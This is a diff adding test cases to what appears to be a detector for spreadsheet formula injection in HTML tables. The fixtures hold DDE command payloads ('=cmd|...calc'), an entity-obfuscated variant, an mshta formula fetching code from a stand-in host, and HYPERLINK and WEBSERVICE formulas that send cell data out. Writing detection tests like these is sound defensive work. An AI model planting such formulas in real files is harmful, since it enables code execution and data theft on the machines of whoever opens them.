@@ -39,6 +39,20 @@ suite('tables', () => {
   for (const text of ARTICLES)
     test(`article: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), ['Sheet.DdeText']))
 
+  const PAGES = [
+    "<table><tr><td>Name</td><td>=cmd|'/C calc'!A0</td></tr></table>",
+    '<html><body><h1>Prices</h1><table><td>1</td>\n<td class=a>&#61;cm&#100;|&#39;/C calc&#39;!A0</td></table></body></html>',
+    '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><p>The formula</p><table><td x:fmla="=mshta|\'http://192.0.2.1/a\'!A0">1</td></table></html>',
+  ]
+  for (const text of PAGES) test(JSON.stringify(text), () => assert.ok(accusations(text).includes('Sheet.DdeCommand')))
+  test('a page that explains formulas shows them in a table', () =>
+    assert.deepEqual(
+      accusations(
+        "<!DOCTYPE html><html><body><p>CSV injection payloads</p><table><tr><td>=cmd|'/C calc'!A0</td><td>starts the calculator</td></tr></table></body></html>",
+      ),
+      [],
+    ))
+
   const SENDING = [
     'a,"=HYPERLINK(""https://example.com/?x=""&A1,""click"")"\n',
     '=WEBSERVICE("http://example.com/"&B2)\n',
